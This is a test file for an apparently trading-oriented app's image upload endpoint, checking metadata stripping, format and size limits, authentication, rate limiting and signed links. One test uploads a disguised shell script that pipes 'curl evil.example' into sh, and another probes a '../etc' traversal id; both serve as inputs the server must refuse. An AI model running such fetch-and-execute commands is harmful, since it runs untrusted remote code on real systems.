import http from 'node:http';
import { createHash } from 'node:crypto';
import { crc32 } from 'node:zlib';
import { ApiPath, AppError, type UploadView } from '@pipwise/domain';
import { count, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { uploads } from '../src/db/schema.js';
import { DB_KINDS, ManualClock, startTestServer, type TestServer } from './harness.js';
import { createTrader, expectLedgerInvariants, type Trader } from './factories.js';

const BOUNDARY = 'pipwise-upload-boundary';

interface Part {
  name: string;
  data: Buffer | string;
  filename?: string;
  type?: string;
}

function multipart(parts: Part[]): Buffer {
  const chunks = parts.flatMap((part) => {
    const disposition = `form-data; name="${part.name}"${part.filename === undefined ? '' : `; filename="${part.filename}"`}`;
    const type = part.type ? `\r\nContent-Type: ${part.type}` : '';
    return [
      Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: ${disposition}${type}\r\n\r\n`, 'latin1'),
      Buffer.from(part.data),
      Buffer.from('\r\n'),
    ];
  });
  return Buffer.concat([...chunks, Buffer.from(`--${BOUNDARY}--\r\n`)]);
}

const imagePart = (data: Buffer, filename = 'photo.jpg', type = 'image/jpeg'): Part => ({ name: 'file', data, filename, type });

/** The tag numbers of an EXIF block's first directory (0x8825 points to the GPS data). */
function exifDirectoryTags(exif: Buffer): number[] {
  const tiff = exif.subarray(exif.indexOf('Exif\0\0') + 6);
  const littleEndian = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (littleEndian ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const directory = littleEndian ? tiff.readUInt32LE(4) : tiff.readUInt32BE(4);
  return Array.from({ length: u16(directory) }, (_, i) => u16(directory + 2 + i * 12));
}
const GPS_DIRECTORY_TAG = 0x8825;

/** A phone photo: 64×48 pixels stored sideways (orientation 6), with the place it was taken. */
const gpsPhoto = () =>
  sharp({ create: { width: 64, height: 48, channels: 3, background: '#3366cc' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({ IFD0: { Make: 'Phone' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2400/100' } })
    .toBuffer();

/** Noise compresses badly, so cutting the file leaves most of its rows missing. */
const noisyJpeg = () =>
  sharp(Buffer.from(Array.from({ length: 128 * 128 * 3 }, (_, i) => (i * 7919) % 251)), {
    raw: { width: 128, height: 128, channels: 3 },
  })
    .jpeg()
    .toBuffer();

/** A valid PNG header declaring 20000×20000 pixels (400 megapixels) in a file of a few bytes. */
async function hugeDeclaredPng(): Promise<Buffer> {
  const png = Buffer.from(
    await sharp({ create: { width: 4, height: 4, channels: 3, background: '#000' } })
      .png()
      .toBuffer(),
  );
  png.writeUInt32BE(20_000, 16);
  png.writeUInt32BE(20_000, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/** An ISO-BMFF box: 32-bit size, four-character type, then its content. */
const box = (type: string, ...content: Buffer[]) => {
  const body = Buffer.concat(content);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
};
/** A full box: a version byte and 24 bits of flags before the content. */
const fullBox = (type: string, version: number, ...content: Buffer[]) => box(type, Buffer.from([version, 0, 0, 0]), ...content);
const u16 = (value: number) => Buffer.from([value >> 8, value & 255]);
const u32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const fourCc = (text: string) => Buffer.from(text, 'latin1');

/**
 * A HEIF file's skeleton as a phone writes it: ftyp with its brands, then meta with the handler, the
 * primary item and the item types (`infe` version 2), then the coded data. `items` are [id, type].
 */
function heifFile({
  brands = ['heic', 'mif1', 'heic'],
  handler = 'pict',
  primary = 1,
  items = [[1, 'hvc1']] as [number, string][],
}: { brands?: string[]; handler?: string; primary?: number; items?: [number, string][] } = {}): Buffer {
  const [major = 'heic', ...compatible] = brands;
  return Buffer.concat([
    box('ftyp', fourCc(major), u32(0), ...compatible.map(fourCc)),
    fullBox(
      'meta',
      0,
      fullBox('hdlr', 0, u32(0), fourCc(handler), Buffer.alloc(12), Buffer.from([0])),
      fullBox('pitm', 0, u16(primary)),
      fullBox(
        'iinf',
        0,
        u16(items.length),
        ...items.map(([id, type]) => fullBox('infe', 2, u16(id), u16(0), fourCc(type), Buffer.from([0]))),
      ),
    ),
    box('mdat', Buffer.alloc(64, 0x5a)),
  ]);
}

/** A real AVIF (AV1 in HEIF) relabelled with the HEIC brand, major and compatible: decodable, but not HEIC. */
async function avifBrandedHeic(): Promise<Buffer> {
  const avif = Buffer.from(
    await sharp({ create: { width: 20, height: 10, channels: 3, background: '#0000ff' } })
      .avif()
      .toBuffer(),
  );
  const ftypEnd = avif.readUInt32BE(0);
  for (let at = 8; at < ftypEnd; at += 4) {
    if (at === 12) continue;
    if (['avif', 'avis'].includes(avif.toString('latin1', at, at + 4))) avif.write('heic', at, 'latin1');
  }
  return avif;
}

interface RawAnswer {
  status: number;
  body: { code: number; msg: string; data: unknown };
  /** Bytes of the body written before the answer arrived. */
  sentBeforeAnswer: number;
}

/** Sends `body` in 64 KB chunks and stops writing as soon as an answer arrives. */
function postSlowly(baseUrl: string, body: Buffer, token?: string): Promise<RawAnswer> {
  const url = new URL(ApiPath.imageUpload, baseUrl);
  return new Promise((resolve, reject) => {
    let sent = 0;
    let answered = false;
    const headers: Record<string, string> = {
      'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
      'content-length': String(body.length),
      lang: 'en',
      ...(token ? { authorization: token } : {}),
    };
    const request = http.request(
      { host: url.hostname, port: url.port, path: url.pathname, method: 'POST', headers },
      (response) => {
        answered = true;
        const sentBeforeAnswer = sent;
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          request.destroy();
          const text = Buffer.concat(chunks).toString('utf8');
          resolve({ status: response.statusCode ?? 0, body: JSON.parse(text) as RawAnswer['body'], sentBeforeAnswer });
        });
      },
    );
    request.on('error', (error) => {
      if (!answered) reject(error);
    });
    const writeNext = () => {
      if (answered || sent >= body.length) return;
      const chunk = body.subarray(sent, sent + 64 * 1024);
      sent += chunk.length;
      request.write(chunk, () => setTimeout(writeNext, 1));
    };
    writeNext();
  });
}

describe.each(DB_KINDS)('uploads on %s', (kind) => {
  let server: TestServer;
  let clock: ManualClock;
  let owner: Trader;

  beforeAll(async () => {
    clock = new ManualClock('2026-11-20T10:00:00Z');
    server = await startTestServer(kind, { clock });
    owner = await createTrader(server.database.db);
  });
  afterAll(() => server.close());
  afterEach(() => expectLedgerInvariants(server.database.db));

  const upload = async (parts: Part[], token: string | null = owner.token, lang = 'en') => {
    const headers: Record<string, string> = { 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, lang };
    if (token) headers.authorization = token;
    const response = await fetch(server.baseUrl + ApiPath.imageUpload, { method: 'POST', headers, body: multipart(parts) });
    return { status: response.status, ...((await response.json()) as { code: number; msg: string; data: UploadView }) };
  };
  const storedCount = async () => (await server.database.db.select({ n: count() }).from(uploads))[0]!.n;
  const storedRow = async (id: string) => (await server.database.db.select().from(uploads).where(eq(uploads.id, id)))[0]!;

  /** Runs `send` and expects it refused with `expected`, and no upload kept. */
  const expectRefused = async (send: () => Promise<unknown>, expected: Record<string, unknown>) => {
    const before = await storedCount();
    expect(await send()).toMatchObject(expected);
    expect(await storedCount()).toBe(before);
  };

  describe('accepting images', () => {
    it('stores a JPEG turned upright, without its EXIF (GPS included), and answers its id and a signed link', async () => {
      const photo = await gpsPhoto();
      const original = await sharp(photo).metadata();
      expect(original.exif && exifDirectoryTags(original.exif)).toContain(GPS_DIRECTORY_TAG);
      expect(original.orientation).toBe(6);

      const answer = await upload([imagePart(photo)]);
      expect(answer).toMatchObject({ status: 200, code: 1 });
      expect(answer.data.id).toMatch(/^[A-Za-z0-9_-]{22}$/);
      expect(answer.data.url).toMatch(new RegExp(`^/api/common/upload/${answer.data.id}\\?expires=\\d+&sig=[A-Za-z0-9_-]{43}$`));

      const row = await storedRow(answer.data.id);
      expect(row).toMatchObject({ userId: owner.userId, mimeType: 'image/jpeg', width: 48, height: 64, bytes: row.data.length });
      expect(row.sha256).toBe(createHash('sha256').update(row.data).digest('hex'));
      const stored = await sharp(row.data).metadata();
      expect(stored).toMatchObject({ format: 'jpeg', width: 48, height: 64 });
      expect(stored.exif).toBeUndefined();
      expect(stored.icc).toBeUndefined();

      const served = await fetch(server.baseUrl + answer.data.url);
      expect(served.status).toBe(200);
      const bytes = Buffer.from(await served.arrayBuffer());
      expect(bytes.equals(row.data)).toBe(true);
      expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    });

    it.each([
      [
        'PNG',
        () =>
          sharp({ create: { width: 20, height: 10, channels: 4, background: '#ff000080' } })
            .png()
            .toBuffer(),
        'image/png',
        'png',
      ],
      [
        'WebP',
        () =>
          sharp({ create: { width: 20, height: 10, channels: 3, background: '#00ff00' } })
            .webp()
            .toBuffer(),
        'image/webp',
        'webp',
      ],
    ])('accepts a %s image and keeps its format', async (_, make, mimeType, format) => {
      const answer = await upload([imagePart(await make(), 'image.bin', 'application/octet-stream')]);
      expect(answer.code).toBe(1);
      expect(await storedRow(answer.data.id)).toMatchObject({ mimeType, width: 20, height: 10 });
      expect((await sharp((await storedRow(answer.data.id)).data).metadata()).format).toBe(format);
    });

    it('ignores the file name, control characters and all: it is never read or kept', async () => {
      const answer = await upload([imagePart(await gpsPhoto(), 'a\u0000b\u0007\u001b.jpg')]);
      expect(answer.code).toBe(1);
      expect(await storedRow(answer.data.id)).toMatchObject({ mimeType: 'image/jpeg' });
    });
  });

  describe('refusing', () => {
    it('a shell script named x.png and sent as image/png', async () => {
      await expectRefused(() => upload([imagePart(Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'x.png', 'image/png')]), {
        code: 1001,
        msg: 'Only JPEG, PNG, WebP or HEIC images can be uploaded',
      });
    });

    it('a truncated JPEG', async () => {
      const jpeg = await noisyJpeg();
      await expectRefused(() => upload([imagePart(jpeg.subarray(0, jpeg.length / 2))], owner.token, 'de'), {
        code: 1001,
        msg: 'Das Bild ist beschädigt oder unvollständig und konnte nicht gelesen werden',
      });
    });

    it('an HEIC file this decoder cannot read, telling which formats to send instead', async () => {
      for (const heic of [
        heifFile(),
        heifFile({
          brands: ['mif1', 'heic'],
          primary: 9,
          items: [
            [1, 'hvc1'],
            [2, 'hvc1'],
            [9, 'grid'],
            [5, 'Exif'],
          ],
        }),
      ]) {
        await expectRefused(() => upload([imagePart(heic, 'IMG_0001.HEIC', 'image/heic')]), {
          code: 1001,
          msg: 'This HEIC photo could not be read; please upload it as JPEG or PNG',
        });
      }
    });

    it('an AVIF image relabelled with the HEIC brand, which the decoder would read', async () => {
      const avif = await avifBrandedHeic();
      expect(avif.toString('latin1', 8, 12)).toBe('heic');
      expect((await sharp(avif).metadata()).format).toBe('heif');
      await expectRefused(() => upload([imagePart(avif, 'IMG_0002.HEIC', 'image/heic')]), {
        code: 1001,
        msg: 'Only JPEG, PNG, WebP or HEIC images can be uploaded',
      });
    });

    it.each([
      ['an AV1 item under the HEIC brand', heifFile({ items: [[1, 'av01']] })],
      [
        'an AV1 item beside the HEVC one',
        heifFile({
          items: [
            [1, 'hvc1'],
            [2, 'av01'],
          ],
        }),
      ],
      ['a JPEG item', heifFile({ items: [[1, 'jpeg']] })],
      ['an AVIF brand among the compatible ones', heifFile({ brands: ['heic', 'mif1', 'avif'] })],
      ['a brand that is not HEIC', heifFile({ brands: ['mif1', 'miaf'] })],
      ['a handler other than pictures', heifFile({ handler: 'vide' })],
      ['a primary item that is not listed', heifFile({ primary: 7 })],
      ['no meta box', heifFile().subarray(0, 24)],
      [
        'a box longer than the file',
        (() => {
          const file = heifFile();
          file.writeUInt32BE(1_000_000, 24);
          return file;
        })(),
      ],
    ])('a HEIF file with %s', async (_, file) => {
      await expectRefused(() => upload([imagePart(file, 'IMG_0003.HEIC', 'image/heic')]), {
        code: 1001,
        msg: 'Only JPEG, PNG, WebP or HEIC images can be uploaded',
      });
    });

    it('a small file declaring an absurd number of pixels, before decoding it', async () => {
      await expectRefused(async () => upload([imagePart(await hugeDeclaredPng(), 'x.png', 'image/png')]), {
        code: 1001,
        msg: 'The image has too many pixels: at most 50 megapixels',
      });
    });

    it('a 20 MB file with 413 in the envelope, answered while most of it is still unsent', async () => {
      const body = multipart([imagePart(Buffer.alloc(20 * 1024 * 1024, 0xff))]);
      await expectRefused(
        async () => {
          const answer = await postSlowly(server.baseUrl, body, owner.token);
          expect(answer.sentBeforeAnswer).toBeLessThan(body.length * 0.75);
          return answer;
        },
        { status: 413, body: { code: 1001, msg: 'The upload is too large', data: null } },
      );
    });

    it('a request without a file, or with the image under another name', async () => {
      await expectRefused(() => upload([{ name: 'note', data: 'hello' }]), { code: 1001, msg: 'Choose an image to upload' });
      await expectRefused(() => upload([{ name: 'file', data: 'text' }]), {
        code: 1001,
        msg: 'Choose an image to upload',
      });
      await expectRefused(async () => upload([{ ...imagePart(await gpsPhoto()), name: 'image' }]), { code: 1001 });
    });

    it('two files with 413', async () => {
      const photo = await gpsPhoto();
      await expectRefused(() => upload([imagePart(photo), imagePart(photo)]), { status: 413, code: 1001 });
    });

    it('a text field with a NUL or another control character', async () => {
      const photo = await gpsPhoto();
      for (const value of ['a\u0000b', 'line\u001bbreak']) {
        await expectRefused(() => upload([{ name: 'note', data: value }, imagePart(photo)]), {
          code: 1001,
          msg: 'Note contains control or invisible characters; please remove them',
        });
      }
    });

    it('a demo account, in its language', async () => {
      const demo = await createTrader(server.database.db, { isDemo: true });
      await expectRefused(async () => upload([imagePart(await gpsPhoto())], demo.token, 'fr'), {
        code: 1003,
        msg: 'Veuillez vous inscrire ou vous connecter à un compte réel',
      });
    });

    it('a visitor not logged in, before reading the body', async () => {
      await expectRefused(async () => upload([imagePart(await gpsPhoto())], null), { code: 999 });
      await expectRefused(async () => upload([imagePart(await gpsPhoto())], 'not-a-session'), { code: 999 });
      const body = multipart([imagePart(Buffer.alloc(8 * 1024 * 1024, 0xff))]);
      const answer = await postSlowly(server.baseUrl, body);
      expect(answer.body.code).toBe(999);
      expect(answer.sentBeforeAnswer).toBeLessThan(body.length / 4);
    });

    it('more than 30 uploads a minute from one session with 429', async () => {
      const busy = await createTrader(server.database.db);
      for (let i = 0; i < 30; i += 1) expect((await upload([{ name: 'note', data: 'x' }], busy.token)).status).toBe(200);
      const answer = await upload([imagePart(await gpsPhoto())], busy.token);
      expect(answer).toMatchObject({ status: 429, code: 1429 });
      expect((await upload([imagePart(await gpsPhoto())])).code).toBe(1);
    });
  });

  describe('signed links', () => {
    let issued: UploadView;
    let other: UploadView;
    beforeAll(async () => {
      issued = (await upload([imagePart(await gpsPhoto())])).data;
      other = (await upload([imagePart(await gpsPhoto())])).data;
    });

    const get = (path: string) => fetch(server.baseUrl + path, { headers: { lang: 'en' } });
    const expectDenied = async (path: string) => {
      const response = await get(path);
      expect(response.status).toBe(403);
      expect(await response.json()).toEqual({ code: 1003, msg: 'This image link is invalid or has expired', data: null });
    };
    const linkParts = (url: string) => {
      const match = /^\/api\/common\/upload\/([\w-]+)\?expires=(\d+)&sig=([\w-]+)$/.exec(url)!;
      return { id: match[1]!, expires: match[2]!, sig: match[3]! };
    };

    it('shows the image for 15 minutes, privately cached for what remains, never sniffed or scripted', async () => {
      const response = await get(issued.url);
      expect(response.status).toBe(200);
      expect(
        Object.fromEntries(
          ['content-type', 'cache-control', 'x-content-type-options', 'content-disposition', 'content-security-policy'].map(
            (name) => [name, response.headers.get(name)],
          ),
        ),
      ).toEqual({
        'content-type': 'image/jpeg',
        'cache-control': 'private, max-age=900',
        'x-content-type-options': 'nosniff',
        'content-disposition': 'inline',
        'content-security-policy': "default-src 'none'",
      });
      clock.advance(14 * 60 * 1000);
      const later = await get(issued.url);
      expect(later.status).toBe(200);
      expect(later.headers.get('cache-control')).toBe('private, max-age=60');
      clock.advance(60 * 1000);
      await expectDenied(issued.url);
      const fresh = server.ctx.uploads.signedUrl(issued.id, clock.now());
      expect((await get(fresh)).status).toBe(200);
    });

    it('refuses a link altered in any part, or incomplete, with one answer', async () => {
      const link = server.ctx.uploads.signedUrl(issued.id, clock.now());
      const { id, expires, sig } = linkParts(link);
      const otherSig = linkParts(server.ctx.uploads.signedUrl(other.id, clock.now())).sig;
      const flipped = `${sig.slice(0, -1)}${sig.endsWith('A') ? 'B' : 'A'}`;
      for (const path of [
        `/api/common/upload/${id}?expires=${expires}&sig=${flipped}`,
        `/api/common/upload/${id}?expires=${Number(expires) + 3600}&sig=${sig}`,
        `/api/common/upload/${other.id}?expires=${expires}&sig=${sig}`,
        `/api/common/upload/${id}?expires=${expires}&sig=${otherSig}`,
        `/api/common/upload/${id}?expires=${expires}`,
        `/api/common/upload/${id}?sig=${sig}`,
        `/api/common/upload/${id}`,
        `/api/common/upload/${id}?expires=${expires}&sig=${sig}&sig=${sig}`,
        `/api/common/upload/short?expires=${expires}&sig=${sig}`,
      ]) {
        await expectDenied(path);
      }
      expect((await get(link)).status).toBe(200);
    });
  });

  describe('ownership and operators', () => {
    let mine: UploadView;
    beforeAll(async () => {
      mine = (await upload([imagePart(await gpsPhoto())])).data;
    });

    it("accepts the owner's upload and refuses another user's exactly like an unknown id", async () => {
      const stranger = await createTrader(server.database.db);
      const { db } = server.database;
      await expect(server.ctx.uploads.requireOwned(db, owner.userId, mine.id)).resolves.toMatchObject({
        id: mine.id,
        mimeType: 'image/jpeg',
      });
      const refusal = (id: string, userId: number) =>
        server.ctx.uploads.requireOwned(db, userId, id).then(
          () => null,
          (error: unknown) => error,
        );
      for (const error of [
        await refusal(mine.id, stranger.userId),
        await refusal('A'.repeat(22), owner.userId),
        await refusal('../etc', owner.userId),
      ]) {
        expect(error).toBeInstanceOf(AppError);
        expect(error).toMatchObject({ kind: 'invalidInput', key: 'upload_invalid' });
      }
    });

    it('serves any upload to a reviewing operator, and nothing to anyone else', async () => {
      const row = await storedRow(mine.id);
      const headers = { ...(await server.operatorHeaders('reviewer', 'compliance')), lang: 'en' };
      const response = await fetch(`${server.baseUrl}/admin/api/uploads/${mine.id}`, { headers });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('image/jpeg');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(Buffer.from(await response.arrayBuffer()).equals(row.data)).toBe(true);

      const unknown = await fetch(`${server.baseUrl}/admin/api/uploads/${'B'.repeat(22)}`, { headers });
      expect(await unknown.json()).toMatchObject({ code: 1004, msg: 'No upload has this id' });
      const refusedTo = async (authorization: string) =>
        (await fetch(`${server.baseUrl}/admin/api/uploads/${mine.id}`, { headers: { authorization, lang: 'en' } })).json();
      const signIn = { code: 999, msg: 'Please sign in to the back office.', data: null };
      expect(await refusedTo('Bearer pwo_guess')).toMatchObject(signIn);
      // The owner's own user session is not an operator session.
      expect(await refusedTo(owner.token)).toMatchObject(signIn);
      const { authorization } = await server.operatorHeaders('editor', 'content');
      expect(await refusedTo(authorization!)).toMatchObject({ code: 1003, msg: 'Your role may not do this.', data: null });
    });
  });
});
